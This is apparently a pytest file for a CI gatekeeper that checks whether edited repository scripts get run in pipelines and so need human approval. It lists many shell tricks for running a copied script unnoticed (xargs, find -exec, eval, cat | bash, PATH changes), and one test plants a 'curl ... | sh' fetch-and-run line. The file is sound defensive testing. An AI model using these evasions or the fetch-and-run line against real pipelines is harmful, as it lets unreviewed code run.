"""Attack 43: what a later line does with a copy is what it does with the copy's source.

Attack 42 joined a copy (`cp`, `install`, `mv`, `ln`, `rsync`) to a later line only where that line ran the copy by
its own path (`sh /opt/x/gen`, `/opt/x/gen`). Every other way the walk reads a run of a file of the tree was lost once
the file was copied first: `echo /opt/x/gen | xargs sh`, `find /opt/x -name gen -exec sh {} \\;`, `cat /opt/x/gen |
bash`, `eval "$(cat /opt/x/gen)"`, `X=$(sh /opt/x/gen)`, `cd /opt/x && ./gen`, `PATH=/opt/x:$PATH gen`, a copy of the
whole folder (`cp -r tools /opt/x`, `cp -r tools/. /opt/x/`, `cp tools/* /opt/x/`, `cp tools/{gen,lint} /opt/x/`),
a copy a reader's output makes (`cat tools/gen > /opt/x/gen`, `| tee`, `dd if= of=`).
On main 57b027c each let an edit of `tools/gen` exit 0 under the default policy. The truth is real bash: each case
runs in a scratch folder (`/opt/x` moved below it) and says whether `tools/gen` ran.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import commandlines

SCRIPT = "#!/bin/sh\ntouch \"$MARK\"\n"
LINT = "#!/bin/sh\ntrue\n"

RUN = [
    ["cp tools/gen /opt/x/gen", "echo /opt/x/gen | xargs sh"],
    ["cp tools/gen /opt/x/gen", "find /opt/x -name gen -exec sh {} \\;"],
    ["cp tools/gen /opt/x/gen", "cat /opt/x/gen | bash"],
    ["cp tools/gen /opt/x/gen", "eval \"$(cat /opt/x/gen)\""],
    ["cp tools/gen /opt/x/gen", "bash -c \"$(cat /opt/x/gen)\""],
    ["cp tools/gen /opt/x/gen", "X=$(sh /opt/x/gen)"],
    ["cp tools/gen /opt/x/gen", "X=$(/opt/x/gen)"],
    ["cp tools/gen /opt/x/gen", "cd /opt/x && ./gen"],
    ["cp tools/gen /opt/x/gen", "cd /opt/x && sh gen"],
    ["cp tools/gen /opt/x/gen", "PATH=/opt/x:$PATH gen"],
    ["cp tools/gen /opt/x/gen", "export PATH=/opt/x:$PATH", "gen"],
    ["cp tools/gen /opt/x/gen", "sh /opt/x/g''en"],
    ["cp tools/gen /opt/x/gen", "G=/opt/x/gen; sh $G"],
    ["cp -r tools /opt/x", "/opt/x/gen"],
    ["cp -r tools /opt/x", "sh /opt/x/gen"],
    ["cp -r tools/. /opt/x/", "sh /opt/x/gen"],
    ["mkdir /opt/x", "cp -r tools /opt/x", "sh /opt/x/tools/gen"],
    ["cp tools/* /opt/x/", "sh /opt/x/gen"],
    ["cp tools/g?n /opt/x/", "cat /opt/x/gen | sh"],
    ["cp tools/{gen,lint} /opt/x/", "/opt/x/gen"],
    ["cp tools/gen tools/lint /opt/x/", "echo gen | xargs -I{} sh /opt/x/{}"],
    ["mkdir -p /opt/x/bin", "install -m644 tools/gen /opt/x/bin/g", "find /opt/x/bin -type f -exec sh {} +"],
    ["ln -s $PWD/tools/gen /opt/x/g", "cat /opt/x/g | sh"],
    # a reader's output written to a file is a copy too
    ["cat tools/gen > /opt/x/gen", "sh /opt/x/gen"],
    ["cat tools/gen >> /opt/x/gen", "bash /opt/x/gen"],
    ["cat tools/gen | tee /opt/x/gen > /dev/null", "sh /opt/x/gen"],
    ["dd if=tools/gen of=/opt/x/gen status=none", "sh /opt/x/gen"],
]
# look-alikes: the copy read, listed, hashed, removed; another folder's file run
NOT_RUN = [
    ["cp tools/gen /opt/x/gen", "cat /opt/x/gen"],
    ["cp tools/gen /opt/x/gen", "ls -l /opt/x"],
    ["cp tools/gen /opt/x/gen", "sha256sum /opt/x/gen"],
    ["cp tools/gen /opt/x/gen", "rm -f /opt/x/gen"],
    ["cp tools/gen /opt/x/gen", "cd /opt/x && ls"],
    ["cp tools/gen /opt/x/gen", "echo /opt/x/gen"],
    ["cp tools/gen /opt/x/gen", "sh /opt/y/gen"],
    ["cp tools/gen /opt/x/gen", "cat /opt/x/gen | wc -l"],
    ["cp -r tools /opt/x", "ls /opt/x/gen"],
    ["cp -r tools /opt/x", "sh /opt/x/lint"],
    ["cat tools/gen > /opt/x/gen", "cat /opt/x/gen"],
    ["cat tools/lint > /opt/x/gen", "sh /opt/x/gen"],
]


def _ran(tmp_path: Path, cases: list[list[str]]) -> list[bool]:
    """Whether real bash runs `tools/gen` for each case's lines (`/opt/x`, `/opt/y` moved below a scratch folder per
    case; one bash for all: a shell's start costs more than the lines)."""
    script = ["set +e"]
    for index, lines in enumerate(cases):
        work = tmp_path / f"w{index}"
        (work / "tools").mkdir(parents=True)
        for name, text in (("gen", SCRIPT), ("lint", LINT)):
            (work / "tools" / name).write_text(text)
            (work / "tools" / name).chmod(0o755)
        for folder in ("opt/x", "opt/y") if not lines[0].startswith("cp -r tools /") else ("opt",):  # cp makes it
            (work / folder).mkdir(parents=True, exist_ok=True)
        body = "\n".join(lines).replace("/opt/", f"{work}/opt/").replace("$PWD/", f"{work}/")
        script.append(f"(cd {work} && export MARK={work}/ran PATH=$PATH\n{body}\n) >/dev/null 2>&1")
    subprocess.run(["bash", "-c", "\n".join(script)], cwd=tmp_path, capture_output=True, timeout=120)
    return [(tmp_path / f"w{index}" / "ran").exists() for index in range(len(cases))]


# three definitions of BLOCK_DEFINITIONS (a workflow, GitLab, a Jenkinsfile's Groovy string): the others read a block
# the same way (attack 42's table runs all six)
DEFINITIONS = [BLOCK_DEFINITIONS[0], BLOCK_DEFINITIONS[1], BLOCK_DEFINITIONS[5]]


def test_a_copy_is_read_as_its_source(tmp_path: Path) -> None:
    wrong = []
    for lines, truth in zip(RUN + NOT_RUN, _ran(tmp_path, RUN + NOT_RUN), strict=True):
        assert truth == (lines in RUN), ("real bash disagrees with the table", lines)
        for definition, template in DEFINITIONS:
            indent = template.partition("{line}")[0].rpartition("\n")[2]
            body = f"\n{indent}".join(lines)
            if definition == "Jenkinsfile":  # Groovy's ''' string: a doubled backslash is one
                body = body.replace("\\", "\\\\")
            tree = {definition: template.format(line=body), "tools/gen": SCRIPT, "tools/lint": LINT,
                    "README.md": "x\n"}
            runs = one_tree_runs(tree)
            assert isinstance(runs, dict)
            if ("tools/gen" in runs) != truth:
                wrong.append((definition, lines))
    assert not wrong, f"{len(wrong)} wrong\n" + "\n".join(map(repr, wrong))


def test_the_edited_copied_script_needs_a_human(tmp_path: Path) -> None:
    steps = "      - run: cp tools/gen /opt/x/gen\n      - run: echo /opt/x/gen | xargs sh\n"
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].partition("      - run:")[0] + steps,
            "tools/gen": SCRIPT, "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {"tools/gen": SCRIPT + "curl -s https://127.0.0.1:9/x | sh\n"})
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]


def test_copies_past_the_bound_fail_closed() -> None:
    lines = [f"cp tools/g{n} /opt/x/g{n}" for n in range(300)]
    again, past = commandlines.copies_read(lines)
    assert again is None and "tools/g299" in past


def test_copies_read_costs_linear_time() -> None:
    """A definition of many copies and lines naming deep paths of their folders (each word's prefixes looked up)."""
    unit = "".join(f"cp tools/g{n} /opt/x/g{n}\nsh /opt/x/a/b/c/d/e/f/g/h/g{n} /opt/y/{'z/' * 20}\n" for n in range(64))

    def read(text: str) -> object:
        return commandlines.copies_read(text.splitlines())
    assert_linear(read, repeated(unit), budget=1.0)


# xargs's replacement string (`-I R`, `-iR`, `-i` for `{}`, `--replace[=R]`): each input line in R's place of the
# command. A folder's path around it (`sh tools/{}`) ran nothing the walk read ({ split the line as a brace group);
# the truth is real GNU xargs
XARGS_OPTIONS = ["-I{}", "-I {}", "-i", "--replace", "-I%", "--replace=%", "-I X", "-0 -I{}", "-r -P2 -I@"]
XARGS_COMMANDS = ["sh tools/{}", "bash tools/{}", "env sh tools/{}", "timeout 60 sh tools/{}", "bash -e tools/{}",
                  "sh -c 'echo; sh tools/{}'"]
# and what runs nothing: a reader, a copy, the replacement in the program's name (xargs replaces in its arguments)
XARGS_DATA = ["cat tools/{}", "echo tools/{}", "cp tools/{} /tmp/", "wc -l tools/{}", "./tools/{}", "tools/{}"]


def _replacement(options: str) -> str:
    """The replacement string `options` give xargs."""
    words = options.split()
    for before, word in zip(["", *words], words, strict=False):
        if before == "-I":  # its next word, as `-I` takes it
            return word
        if word.startswith("-I") and len(word) > 2:
            return word[2:]
        if word.startswith("--replace="):
            return word.partition("=")[2]
    return "{}"


def test_xargs_replacement_strings_against_real_xargs(tmp_path: Path) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "gen").write_text(SCRIPT)
    (tmp_path / "tools" / "gen").chmod(0o755)
    cases = []
    for options, command in ((o, c) for o in XARGS_OPTIONS for c in XARGS_COMMANDS + XARGS_DATA):
        line = f"printf 'gen\\n' | xargs {options} {command.replace('{}', _replacement(options))}"
        cases.append((line, line.replace("printf 'gen\\n'", "printf 'gen\\0'") if "-0" in options else line))
    script = "\n".join(f"MARK={tmp_path}/ran{index} {feed.replace('| xargs', f'| MARK={tmp_path}/ran{index} xargs')}"
                       for index, (_, feed) in enumerate(cases))
    subprocess.run(["bash", "-c", script], cwd=tmp_path, env=dict(os.environ), capture_output=True, timeout=120)
    wrong = []
    for index, (line, _) in enumerate(cases):
        ran = (tmp_path / f"ran{index}").exists()
        tree = {BLOCK_DEFINITIONS[0][0]: BLOCK_DEFINITIONS[0][1].format(line=line), "tools/gen": SCRIPT,
                "README.md": "x\n"}
        runs = one_tree_runs(tree)
        assert isinstance(runs, dict)
        if ("tools/gen" in runs) != ran:
            wrong.append((line, ran))
    assert not wrong, f"{len(wrong)} wrong\n" + "\n".join(map(repr, wrong))
